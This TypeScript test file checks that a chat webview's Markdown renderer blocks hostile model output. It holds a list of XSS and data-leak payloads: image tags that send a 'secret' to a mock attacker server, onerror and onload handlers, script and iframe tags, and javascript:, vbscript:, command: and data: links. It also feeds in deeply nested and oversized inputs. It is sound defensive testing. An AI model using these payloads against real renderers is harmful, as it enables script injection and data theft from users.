// Model output is attacker-controlled. These payloads must load nothing, run nothing, and offer no link
// but http(s)/mailto; a remote image becomes a placeholder that opens its URL outside on request.
import { strict as assert } from 'node:assert';
import * as http from 'node:http';
import type { AddressInfo } from 'node:net';
import { chat, exchange, snapshot } from './builders';
import { eventually, useWebviewPage } from './pageSession';

function payloads(attacker: string): string[] {
  return [
    `![leak](${attacker}/leak?d=secret)`,
    `![ref][img]\n\n[img]: ${attacker}/ref-image`,
    `<img src="${attacker}/raw-img" onerror="window.__pwned=1">`,
    `<img src=x onerror=alert(1)>`,
    `<script>window.__pwned=2</script>`,
    `<iframe src="${attacker}/frame"></iframe>`,
    `<a href="javascript:window.__pwned=3">html link</a>`,
    `[js link](javascript:window.__pwned=4)`,
    `[cmd link](command:workbench.action.terminal.new)`,
    `[data link](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19wd25lZD01PC9zY3JpcHQ+)`,
    `[vb](vbscript:msgbox(1))`,
    `<command:workbench.action.terminal.new>`,
    `<svg onload="window.__pwned=6"><image href="${attacker}/svg-image"/></svg>`,
    `<style>body{background:url(${attacker}/css)}</style>`,
    `<video poster="${attacker}/poster"></video>`,
    `<picture><source srcset="${attacker}/srcset"><img src="${attacker}/pic"></picture>`,
    `<form id="app"><input name="attributes"></form>`,
    `[![nested](${attacker}/nested-img)](https://example.com/ok)`,
    `<${attacker}/autolink>`,
  ];
}

describe('webview: hostile Markdown', () => {
  // Tall enough that every answer of the corpus is rendered (answers far off screen render lazily).
  const view = useWebviewPage({ viewport: { width: 480, height: 3000 } });
  let attacker: http.Server;
  let origin = '';
  const hits: string[] = [];

  before(async () => {
    attacker = http.createServer((req, res) => {
      hits.push(req.url ?? '');
      res.end('');
    });
    await new Promise<void>((resolve) => attacker.listen(0, '127.0.0.1', resolve));
    origin = `http://127.0.0.1:${(attacker.address() as AddressInfo).port}`;
  });
  after(() => new Promise<void>((resolve) => attacker.close(() => resolve())));

  async function inspect(): Promise<{ pwned: unknown; remoteImages: string[]; badLinks: string[]; rawTags: number }> {
    return view().page.evaluate(() => {
      const g = globalThis as unknown as { __pwned?: unknown; document: { querySelectorAll(s: string): ArrayLike<{ getAttribute(n: string): string | null }> } };
      // No named helpers in here: the test transpiler would wrap them in a helper the page lacks.
      const images = Array.from(g.document.querySelectorAll('img'));
      const links = Array.from(g.document.querySelectorAll('a[href]'));
      return {
        pwned: g.__pwned,
        remoteImages: images.map((i) => i.getAttribute('src') ?? '').filter((src) => !src.startsWith('data:image/')),
        // Web and mail links, and paths (the host opens a file of the workspace): nothing with another scheme or a host.
        badLinks: links.map((a) => a.getAttribute('href') ?? '').filter((h) => !/^(https?:|mailto:)/i.test(h) && (/^\s*([a-z][a-z0-9+.-]*:|\/\/)/i.test(h) || /[\s\p{Cc}]/u.test(h))),
        rawTags: g.document.querySelectorAll('.markdown script, .markdown iframe, .markdown svg, .markdown style, .markdown video, .markdown picture, .markdown form, .markdown input').length,
      };
    });
  }

  it('streamed and re-rendered from a snapshot: no request leaves, nothing runs, no unsafe link', async () => {
    const all = payloads(origin);
    await view().post({ type: 'state/snapshot', snapshot: snapshot({ chat: chat([]) }) });
    for (const [i, payload] of all.entries()) {
      const id = `ex-${i}`;
      await view().post({ type: 'turn/start', exchange: exchange(`payload ${i}`, { status: 'waiting' }, id) });
      const half = Math.ceil(payload.length / 2);
      await view().post({ type: 'turn/chunk', exchangeId: id, seq: 0, text: payload.slice(0, half) });
      await view().nextFrame();
      await view().post({ type: 'turn/chunk', exchangeId: id, seq: 1, text: payload.slice(half) });
      await view().post({ type: 'turn/update', seq: 2, exchange: exchange(`payload ${i}`, { markdown: payload }, id) });
    }
    await view().nextFrame();
    const streamed = await inspect();
    // The history re-rendered whole, as after a reload.
    await view().post({ type: 'state/snapshot', snapshot: snapshot({ chat: chat(all.map((p, i) => exchange(`payload ${i}`, { markdown: p }, `ex-${i}`))) }) });
    await view().nextFrame();
    await eventually(() => view().page.locator('.exchange.rendered').count(), (n) => n === all.length, 'every answer rendered');
    const reopened = await inspect();
    // Give any stray request time to arrive before counting.
    await new Promise((r) => setTimeout(r, 300));
    for (const result of [streamed, reopened]) {
      assert.equal(result.pwned, undefined);
      assert.deepEqual(result.remoteImages, []);
      assert.deepEqual(result.badLinks, []);
      assert.equal(result.rawTags, 0);
    }
    assert.deepEqual(hits, []);
    // Raw HTML shows as text, not as markup.
    assert.match(await view().page.locator('[data-exchange-id="ex-4"]').innerText(), /<script>window\.__pwned=2<\/script>/);
  });

  it('a remote image is a placeholder that shows its URL and opens it outside on click', async () => {
    await view().post({ type: 'state/snapshot', snapshot: snapshot({ chat: chat([exchange('q', { markdown: `![chart](${origin}/chart.png)` }, 'ex-1')]) }) });
    const placeholder = view().page.getByRole('button', { name: /Image not loaded: chart/ });
    await placeholder.waitFor();
    assert.match(await placeholder.innerText(), new RegExp(`${origin}/chart\\.png`));
    await placeholder.click();
    assert.deepEqual(await view().waitForSent('link/open'), { type: 'link/open', href: `${origin}/chart.png` });
    assert.deepEqual(hits, []);
  });

  it('links (web, mail and paths) open through the host and never navigate the webview; unsafe ones are inert', async () => {
    const markdown = '[docs](https://example.com/docs) [mail](mailto:a@example.com) [cart](src/cart.ts#L3) [notes](docs/my%20notes.md) [tab](jav%09ascript:x) [js](javascript:alert(1)) [cmd](command:evil)';
    await view().post({ type: 'state/snapshot', snapshot: snapshot({ chat: chat([exchange('q', { markdown }, 'ex-1')]) }) });
    const page = view().page;
    const url = page.url();
    await page.getByRole('link', { name: 'docs' }).click();
    await page.getByRole('link', { name: 'mail' }).click();
    // A path is a link the host opens if the workspace has that file; it says where it goes.
    const cart = page.getByRole('link', { name: 'cart' });
    assert.equal(await cart.getAttribute('title'), 'src/cart.ts#L3');
    await cart.click();
    await page.getByRole('link', { name: 'notes' }).click();
    assert.equal(await page.getByRole('link', { name: 'tab' }).count(), 0, 'a control character once decoded: not a path');
    // Neither is a link: javascript: stays literal text, command: loses its target.
    assert.equal(await page.getByRole('link', { name: 'js' }).count(), 0);
    assert.equal(await page.getByRole('link', { name: 'cmd' }).count(), 0);
    await page.getByText('[js](javascript:alert(1))').click();
    await page.locator('.markdown a', { hasText: 'cmd' }).click();
    await eventually(async () => view().sent().filter((m) => m.type === 'link/open').length, (n) => n >= 4, 'four links opened');
    await view().nextFrame();
    const opened = view().sent().flatMap((m) => (m.type === 'link/open' ? [m.href] : []));
    assert.deepEqual(opened, ['https://example.com/docs', 'mailto:a@example.com', 'src/cart.ts#L3', 'docs/my%20notes.md']);
    assert.equal(page.url(), url);
  });

  it('a data: image is shown', async () => {
    const png = 'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==';
    await view().post({ type: 'state/snapshot', snapshot: snapshot({ chat: chat([exchange('q', { markdown: `![dot](${png})` }, 'ex-1')]) }) });
    await view().page.getByRole('img', { name: 'dot' }).waitFor();
  });

  it('brackets nested 10,000 deep render as plain text, saying why, and load nothing', async () => {
    const block = `${'['.repeat(10_000)}x${'](y)'.repeat(10_000)} ![z](${origin}/nested)`;
    await view().post({ type: 'state/snapshot', snapshot: snapshot({ chat: chat([exchange('q', { markdown: `Before.\n\n${block}\n\nAfter [a link](https://example.com/ok).` }, 'ex-1')]) }) });
    const note = view().page.locator('.md-huge-note');
    await note.waitFor();
    assert.match(await note.innerText(), /nests brackets more than 64 deep/);
    assert.match(await view().page.locator('.md-huge pre').innerText(), /^\[{100}/);
    // Only that block: the ones around it are Markdown as usual.
    assert.equal(await view().page.getByRole('link', { name: 'a link' }).getAttribute('href'), 'https://example.com/ok');
    assert.equal(await view().page.locator('img').count(), 0);
    assert.deepEqual(hits, []);
  });

  it('block quotes nested 2,000 deep render as plain text, saying why', async () => {
    await view().post({ type: 'state/snapshot', snapshot: snapshot({ chat: chat([exchange('q', { markdown: `${'> '.repeat(2_000)}deep` }, 'ex-1')]) }) });
    const note = view().page.locator('.md-huge-note');
    await note.waitFor();
    assert.match(await note.innerText(), /nests quotes more than 64 deep/);
    assert.equal(await view().page.locator('blockquote').count(), 0);
  });

  it('a list nested 40 levels deep renders as plain text, saying why; a list of a few levels as a list', async () => {
    const deep = Array.from({ length: 200 }, (_, i) => `${'  '.repeat(i % 40)}- item ${i}`).join('\n');
    const shallow = '- one\n  - two\n    - three';
    await view().post({ type: 'state/snapshot', snapshot: snapshot({ chat: chat([exchange('q', { markdown: `${shallow}\n\nBetween.\n\n${deep}` }, 'ex-1')]) }) });
    // The deep list streams as several blocks (each item at column 0 starts one): each says why.
    const note = view().page.locator('.md-huge-note').first();
    await note.waitFor();
    assert.match(await note.innerText(), /indents a list item 64 columns or more/);
    assert.equal(await view().page.locator('.markdown li').count(), 3, 'only the shallow list is a list');
  });

  it('a 40 KB run without a space renders as plain text, saying why; a 5 KB one stays Markdown', async () => {
    const blob = 'QUJD'.repeat(10_000);
    const word = 'x'.repeat(5_000);
    await view().post({ type: 'state/snapshot', snapshot: snapshot({ chat: chat([exchange('q', { markdown: `**${word}**\n\nThe data: ${blob} ![x](${origin}/blob)` }, 'ex-1')]) }) });
    const note = view().page.locator('.md-huge-note');
    await note.waitFor();
    assert.match(await note.innerText(), /a run of more than 16 KB without a space: only its first 16 KB are shown/);
    assert.match(await view().page.locator('.md-huge pre').innerText(), /^The data: (QUJD){100}/);
    assert.equal(await view().page.locator('.markdown strong').innerText(), word);
    assert.equal(await view().page.locator('img').count(), 0);
    assert.deepEqual(hits, []);
  });

  it('a 1 MB line renders as the start of its plain text, saying it was shortened, and loads nothing', async () => {
    const line = `${'A'.repeat(500_000)}END ![x](${origin}/big) ${'B'.repeat(500_000)}`;
    await view().post({ type: 'state/snapshot', snapshot: snapshot({ chat: chat([exchange('q', { markdown: line }, 'ex-1')]) }) });
    const note = view().page.locator('.md-huge-note');
    await note.waitFor();
    assert.match(await note.innerText(), /only its first 16 KB are shown/);
    assert.match(await view().page.locator('.md-huge pre').innerText(), /^A{1000}/);
    assert.equal(await view().page.locator('img').count(), 0);
    assert.deepEqual(hits, []);
  });
});
